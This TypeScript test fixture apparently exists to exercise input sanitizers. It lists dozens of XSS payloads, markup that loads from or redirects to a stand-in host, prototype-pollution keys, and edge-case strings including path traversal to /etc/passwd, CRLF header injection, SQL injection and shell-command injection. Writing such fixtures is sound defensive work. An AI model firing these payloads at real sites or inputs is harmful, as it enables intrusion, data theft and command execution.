/** What hostile code calls, so that it is heard; and the host that it would lead to. */
export const HOOK = 'hurt';
export const ELSEWHERE = 'elsewhere.example';

const RUN = `${HOOK}()`;

/** Markup, addresses and templates that would run if they were taken for what they look like. */
const CODE: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<base href="//${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=//${ELSEWHERE}/">`,
  `<link rel="stylesheet" href="//${ELSEWHERE}/a.css">`,
  `<style>@import '//${ELSEWHERE}/a.css'</style>`,
  `<img src="//${ELSEWHERE}/a.png">`,
  `<form action="//${ELSEWHERE}/"><button autofocus>`,
  `<a href="javascript:${RUN}">a</a>`,
  `</textarea></title></style></script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `" onmouseover="${RUN}" style="position:fixed;inset:0`,
  `' onpointerenter='${RUN}`,
  `\` onerror=${RUN}`,
  `x" style="background:url(javascript:${RUN})`,
  `javascript:${RUN}`,
  `JaVa\tScRiPt:${RUN}`,
  ` javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `//${ELSEWHERE}/`,
  `\\\\${ELSEWHERE}\\`,
  `https://${ELSEWHERE}/`,
  `https:${ELSEWHERE}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `';${RUN};//`,
  `"-${RUN}-"`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `＜script＞${RUN}＜/script＞`,
];

/** Names that every object answers to, and values that are no values. */
export const NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupGetter__',
  'isPrototypeOf',
  'length',
  'then',
  'at',
  'null',
  'undefined',
  'NaN',
  'true',
];

/** Numbers, separators, scripts and bytes at the edges of what is read. */
const EDGES: readonly string[] = [
  ...['-0', '1e999', '-Infinity', '0x10', '9007199254740993', '00', '1.', '.5', '+1', '1,5', '１２', '١٢', '-1e-7'],
  ...['', ' ', '~', '~~~~', '.', '....', 'a~b~a', 'a.b.a', ';', '&', '=', '+', '#', '?', '/', '\\', '*', '[]', '{}'],
  ...['../../../etc/passwd', '..%2f..%2f', '\r\nSet-Cookie: a=b', 'a\nb', "' OR 1=1 --", '$(id)', '|id', '%n%s%x'],
  ...['\0', 'a\0b', '\uFEFF', '\u202Etxt.exe', '\u200B', '\u2028', '\uFFFE', '\uD800', 'é\u0301\u0301\u0301', '👩‍👩‍👧‍👦'],
  ...['مرحبا', 'שלום', '留守儿童', '𠮷𠮷', '[object Object]', 'function(){}', '2026-02-30'],
];

/** Parts of an address that no text gives when it is written rightly; they stand as they are. */
export const BROKEN: readonly string[] = [
  ...[
    '%',
    '%%',
    '%0',
    '%ZZ',
    '%E0%A4%A',
    '%FF%FE',
    '%C0%BC',
    '%ED%A0%80',
    '%u003c',
    '%00',
    '%0d%0a',
    '+%2B+',
    '%25253C',
  ],
];

export const TEXTS: readonly string[] = [...CODE, ...NAMES, ...EDGES];
